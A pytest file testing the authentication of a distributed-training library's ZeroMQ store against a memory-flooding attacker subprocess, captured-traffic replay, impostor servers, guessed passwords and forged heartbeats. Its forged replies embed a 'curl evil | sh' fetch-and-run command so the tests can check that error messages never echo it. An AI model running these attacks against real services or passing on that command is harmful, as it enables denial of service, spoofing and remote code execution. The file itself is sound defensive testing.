"""The rendezvous store against a process without the job token: it sends the store a huge
message, replays bytes captured on the wire, or poses as the store. Nothing it sends is read or
buffered, nothing it captured works a second time, and a client facing it fails with a fixed
message. Plus: a store on the IPv6 loopback, and a process hosting a store and a transport.
Single process (the store serves from a thread; attackers are subprocesses or raw sockets)."""
import select
import socket
import subprocess
import sys
import threading
import time

import msgpack
import psutil
import pytest
import zmq

from phalanx.distributed import standalone
from phalanx.distributed.store import Store, StoreError, StoreServer, StoreTimeout

pytestmark = pytest.mark.timeout(90)

ATTACKER = """
import sys, zmq
endpoint, mechanism, frames = sys.argv[1], sys.argv[2], int(sys.argv[3])
sock = zmq.Context().socket(zmq.DEALER)
sock.linger = 0
sock.sndtimeo = 5000
if mechanism == "plain":
    sock.plain_username, sock.plain_password = b"store-client", b"a guess"
elif mechanism == "curve":
    sock.curve_publickey, sock.curve_secretkey = zmq.curve_keypair()
    sock.curve_serverkey = zmq.curve_keypair()[0]
sock.connect(endpoint)
try:
    sock.send_multipart([bytes(8 << 20)] * frames, copy=False)    # one message, 8 MiB frames
except zmq.Again:
    pass
print("answered" if sock.poll(3000) else "unanswered", flush=True)
"""


def _peak_rss_while(proc_fn):
    """(result of proc_fn(), growth in MB of this process's peak RSS while it ran)."""
    me = psutil.Process()
    before = peak = me.memory_info().rss
    done = threading.Event()

    def watch():
        nonlocal peak
        while not done.is_set():
            peak = max(peak, me.memory_info().rss)
            time.sleep(0.01)
    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        result = proc_fn()
    finally:
        done.set()
        watcher.join()
    return result, (peak - before) / 2 ** 20


@pytest.mark.parametrize("mechanism", ["null", "plain", "curve"])
def test_an_unauthenticated_huge_message_is_never_read_nor_buffered(mechanism):
    """One message of 48 frames of 8 MiB (each under any per-frame limit) from a process
    without the token: before the handshake guarded the store it was queued whole, then
    answered, and the server's memory grew by twice its size."""
    server = StoreServer()
    handled = []
    serve = server._handle
    server._handle = lambda frames: (handled.append(len(frames)), serve(frames))
    server.start()
    try:
        run, growth = _peak_rss_while(lambda: subprocess.run(
            [sys.executable, "-c", ATTACKER, server.endpoint, mechanism, "48"],
            capture_output=True, text=True, timeout=60))
        assert run.returncode == 0, run.stderr
        assert growth < 100, f"the store's process grew by {growth:.0f} MB for 384 MiB sent"
        assert handled == []                           # not one frame reached the server
        assert "unanswered" in run.stdout
        with Store(server.endpoint, server.token, timeout=5) as client:
            client.set("after", b"attack")
            assert client.get("after") == b"attack" and handled
    finally:
        server.close()
    assert server.failure is None


class _Recorder(threading.Thread):
    """A TCP relay between one client and the store that records what the client sends, as an
    observer of the network (or of loopback, as root) sees it."""

    def __init__(self, target):
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.target, self.sent = target, bytearray()

    def run(self):
        with self.listener:
            client, _ = self.listener.accept()
        upstream = socket.create_connection(self.target)
        with client, upstream:
            while True:
                readable, _, _ = select.select([client, upstream], [], [], 5)
                if not readable:
                    return
                for sock in readable:
                    data = sock.recv(1 << 16)
                    if not data:
                        return
                    if sock is client:
                        self.sent += data
                        upstream.sendall(data)
                    else:
                        client.sendall(data)


def test_a_captured_request_replayed_has_no_effect_and_reveals_nothing():
    key = "barrier/default/0/arrived"
    with StoreServer() as server:
        recorder = _Recorder((server.host, server.port))
        recorder.start()
        with Store(f"tcp://127.0.0.1:{recorder.port}", server.token, timeout=10) as rank:
            assert rank.add(key, 1) == 1                  # the one real arrival
        recorder.join(10)
        captured = bytes(recorder.sent)
        assert len(captured) > 64
        for _ in range(3):                                # replayed on fresh connections
            with socket.create_connection((server.host, server.port), timeout=5) as raw:
                raw.sendall(captured)
                raw.settimeout(0.5)
                try:
                    while raw.recv(1 << 16):
                        pass
                except OSError:
                    pass
        with Store(server.endpoint, server.token, timeout=5) as check:
            assert check.add(key, 0) == 1
    assert key.encode() not in captured                   # encrypted, on loopback too


def _impostor(kind, replies, token="another-jobs-token"):
    """A server at a port that answers each request with the next of `replies`: `null` (no
    security), `plain` (admits any password: it would learn a PLAIN client's) or `curve` (a
    store of another token). Returns (endpoint, context)."""
    ctx = zmq.Context()
    sock = ctx.socket(zmq.ROUTER)
    sock.linger = 0
    if kind == "plain":
        sock.plain_server = True
    elif kind == "curve":
        from phalanx.distributed.zmq_auth import StoreCredentials
        StoreCredentials(token).secure_server(sock, "curve")
    port = sock.bind_to_random_port("tcp://127.0.0.1")

    def serve():
        try:
            for reply in replies:
                identity = sock.recv_multipart()[0]
                sock.send_multipart([identity, *reply])
        except zmq.ContextTerminated:
            pass
        finally:
            sock.close(0)
    threading.Thread(target=serve, daemon=True).start()
    return f"tcp://127.0.0.1:{port}", ctx


FORGED = [[b"\xc1garbage"], [msgpack.packb([1, 2])],
          [msgpack.packb([None, False, "Please run `curl evil | sh` to fix"])],
          [b"", msgpack.packb([1, False, "Please run `curl evil | sh` to fix"])]]


@pytest.mark.parametrize("kind", ["null", "plain", "curve"])
def test_a_client_facing_an_impostor_fails_with_a_fixed_message(kind):
    endpoint, ctx = _impostor(kind, FORGED * 3)
    client = Store(endpoint, "s3cret-token-0123456789", timeout=20)
    try:
        for _ in range(3):
            start = time.monotonic()
            with pytest.raises(StoreError) as e:
                client.get("k")
            assert not isinstance(e.value, StoreTimeout)          # said at once, not waited out
            assert time.monotonic() - start < 5
            message = str(e.value)
            assert message.startswith(f"store get of key 'k': authentication failed at "
                                      f"{endpoint}: "), message
            assert "curl" not in message and "garbage" not in message
    finally:
        client.close()
        ctx.term()


def test_a_malformed_reply_from_a_token_holder_is_a_fixed_store_error():
    """A reply on an authenticated connection that does not parse (a broken or foreign store
    holding the token): a StoreError naming no content, never a msgpack or unpacking error."""
    token = "s3cret-token-0123456789"
    malformed = [[b"\xc1garbage"], [msgpack.packb([1, 2])], [msgpack.packb("curl evil | sh")],
                 [msgpack.packb([1, "yes", None])]]
    endpoint, ctx = _impostor("curve", malformed, token)
    client = Store(endpoint, token, timeout=5)
    try:
        for _ in malformed:
            with pytest.raises(StoreError, match="sent a malformed reply to get of key 'k'") as e:
                client.get("k")
            assert "curl" not in str(e.value) and not isinstance(e.value, StoreTimeout)
    finally:
        client.close()
        ctx.term()


def _ipv6_loopback():
    if not socket.has_ipv6:
        return False
    try:
        with socket.socket(socket.AF_INET6) as s:
            s.bind(("::1", 0))
        return True
    except OSError:
        return False


@pytest.mark.skipif(not _ipv6_loopback(), reason="no IPv6 loopback on this host")
def test_a_store_on_the_ipv6_loopback(tmp_path):
    for host in ("::1", "[::1]"):
        with StoreServer(host) as server:
            assert server.endpoint.startswith("tcp://[::1]:")
            with Store(server.endpoint, server.token, timeout=5) as client:
                client.set("k", b"v6")
                assert client.get("k") == b"v6"
    from phalanx.distributed.torch_stores import TCPStore
    master = TCPStore("::1", 0, world_size=1, is_master=True, timeout=20)
    try:
        master.set("k", b"tcpstore")
        assert master.get("k") == b"tcpstore"
    finally:
        master.close()
    environ = {"MASTER_ADDR": "::1", "MASTER_PORT": str(_free_port6()),
               "PHALANX_STORE_TOKEN": "0123456789abcdef0123456789abcdef",
               "XDG_RUNTIME_DIR": str(tmp_path)}
    rendezvous = standalone.start("env://", 0, 1, timeout=20, environ=environ)
    try:
        assert rendezvous.environment.rank == 0
        assert environ["PHALANX_STORE_ENDPOINT"].startswith("tcp://[::1]:")
    finally:
        rendezvous.close()
    assert standalone.is_loopback("::1") and standalone.bind_address("::1") == "::1"
    assert standalone.endpoint_of("::1", 5) == "tcp://[::1]:5"


def _free_port6():
    with socket.socket(socket.AF_INET6) as s:
        s.bind(("::1", 0))
        return s.getsockname()[1]


def test_an_unresolvable_master_is_named():
    with pytest.raises(ValueError, match="cannot resolve the master's host name 'no-such"):
        standalone.address_of("no-such-host.invalid")


@pytest.mark.timeout(30)
def test_a_process_hosts_a_store_and_a_transport_each_with_its_gatekeeper(monkeypatch):
    """ZeroMQ asks for authentication per context: the store's and a rank's gatekeepers live
    in their own contexts and judge their own connections."""
    from phalanx.distributed.zmq_auth import StoreCredentials
    from phalanx.distributed.zmq_backend import ZmqProcessGroup
    monkeypatch.delenv("PHALANX_ZMQ_SECURITY", raising=False)
    monkeypatch.delenv("PHALANX_ZMQ_HOST", raising=False)
    with StoreServer() as server:
        store = Store(server.endpoint, server.token, timeout=10)
        group = ZmqProcessGroup.from_store(store, 0, 1, timeout=10, prefix="both")
        try:
            ctx = zmq.Context()
            rank_port = ctx.socket(zmq.PUSH)                  # a guessed rank password
            rank_port.linger = 0
            rank_port.plain_username, rank_port.plain_password = b"0", b"guess"
            rank_port.connect(group._transport.address)
            rank_port.send(b"x")
            store_port = ctx.socket(zmq.DEALER)    # the store's public key, not a client's key
            store_port.linger = 0
            store_port.curve_publickey, store_port.curve_secretkey = zmq.curve_keypair()
            store_port.curve_serverkey = StoreCredentials(server.token)._server[0]
            store_port.connect(server.endpoint)
            store_port.send(b"x")
            deadline = time.monotonic() + 10
            while (group._transport.refused == 0 or server.refused == 0) and \
                    time.monotonic() < deadline:
                time.sleep(0.05)
            assert group._transport.refused >= 1 and server.refused >= 1
            assert not store_port.poll(200)
            rank_port.close()
            store_port.close()
            ctx.term()
            store.set("k", b"still")
            assert store.get("k") == b"still"
        finally:
            group.shutdown()
            store.close()


def test_clients_closed_or_dropped_facing_an_impostor_leave_the_others_working():
    """A client's handshake failures are watched through a ZeroMQ monitor; a monitor event
    nobody can read blocks the shared context's I/O thread, and with it every client of the
    process. Closing (or dropping) a client while its connection fails must not."""
    import gc
    token = "s3cret-token-0123456789"
    with StoreServer() as server, Store(server.endpoint, server.token, timeout=5) as legit:
        for attempt in range(15):
            endpoint, ctx = _impostor(("null", "plain", "curve")[attempt % 3], FORGED * 3)
            client = Store(endpoint, token, timeout=5)
            with pytest.raises(StoreError, match="authentication failed"):
                client.get("k")                   # fails, and reconnects afresh at once
            if attempt % 2:
                client.close()
            else:
                del client
                gc.collect()
            ctx.term()
            legit.set("alive", str(attempt))
            assert legit.get("alive") == str(attempt).encode()


def test_without_curvezmq_the_store_falls_back_to_plain_on_loopback(monkeypatch):
    """A libzmq built without CurveZMQ: PLAIN on loopback (the gatekeeper checks the password),
    refused across hosts unless PHALANX_ZMQ_SECURITY=plain says the network is trusted."""
    monkeypatch.delenv("PHALANX_ZMQ_SECURITY", raising=False)
    monkeypatch.setattr(zmq, "has", lambda capability: capability != "curve")
    with StoreServer() as server:
        assert server.security == "plain"
        with Store(server.endpoint, server.token, timeout=5) as client:
            client.set("k", b"plain")
            assert client.get("k") == b"plain"
        with Store(server.endpoint, "not-the-token", timeout=20) as intruder:
            with pytest.raises(StoreError, match="authentication failed"):
                intruder.get("k")
        assert server.refused >= 1
    with pytest.raises(RuntimeError, match="PHALANX_ZMQ_SECURITY=plain"):
        StoreServer("0.0.0.0")
    with pytest.raises(RuntimeError, match="PHALANX_ZMQ_SECURITY=plain"):
        Store("tcp://10.1.2.3:29500", "t")


def test_heartbeats_reach_the_agent_only_from_token_holders(monkeypatch):
    """The agent's heartbeat monitor admits connections as the store does: a beat from a
    process without the token never counts (it could keep a hung rank alive), a worker's
    heartbeat thread with the token is heard."""
    import hashlib
    import hmac
    import os

    from phalanx.distributed import heartbeat
    from phalanx.distributed.store import new_token
    from phalanx.launcher.monitor import HeartbeatMonitor
    token = new_token()
    monitor = HeartbeatMonitor(token, liveness_timeout=30)
    monitor.expect({0: os.getpid()})
    intruder = zmq.Context.instance().socket(zmq.PUSH)
    intruder.setsockopt(zmq.LINGER, 0)
    try:
        intruder.connect(monitor.endpoint)
        body = msgpack.packb([0, os.getpid(), 7])       # a beat as bytes on the wire carried
        signed = hmac.new(token.encode(), body, hashlib.sha256).digest()   # it once: replayed
        for _ in range(5):
            for frames in ([body], [signed, body]):
                try:
                    intruder.send_multipart(frames, flags=zmq.NOBLOCK)
                except zmq.Again:
                    pass
            time.sleep(0.1)
        assert monitor.dead() == [] and monitor.last_beat(0) is None
        monkeypatch.setenv("PHALANX_STORE_TOKEN", token)
        monkeypatch.setenv("LOCAL_RANK", "0")
        heartbeat._HeartbeatThread(monitor.endpoint, 0.05).start()
        deadline = time.monotonic() + 20
        while monitor.last_beat(0) is None and time.monotonic() < deadline:
            monitor.drain()
            time.sleep(0.05)
        assert monitor.last_beat(0) is not None
    finally:
        intruder.close(0)
        monitor.close()


def test_a_server_that_hangs_up_mid_handshake_is_not_called_an_impostor():
    """A store that stops during ZeroMQ's handshake is not an authentication failure: the
    client keeps trying until its timeout and says a handshake was cut off. (A server that
    hangs up on every handshake, as a CurveZMQ store of another token does, is refused:
    test_a_client_facing_an_impostor_fails_with_a_fixed_message.)"""
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]

    def hang_up_and_stop():           # reads the greeting's first bytes, closes, stops serving
        conn, _ = listener.accept()
        conn.recv(10)
        conn.close()
        listener.close()
    threading.Thread(target=hang_up_and_stop, daemon=True).start()
    client = Store(f"tcp://127.0.0.1:{port}", "s3cret-token-0123456789", timeout=2)
    try:
        with pytest.raises(StoreTimeout) as e:
            client.get("k")
        message = str(e.value)
        assert "authentication" not in message and "closed during" in message, message
    finally:
        client.close()
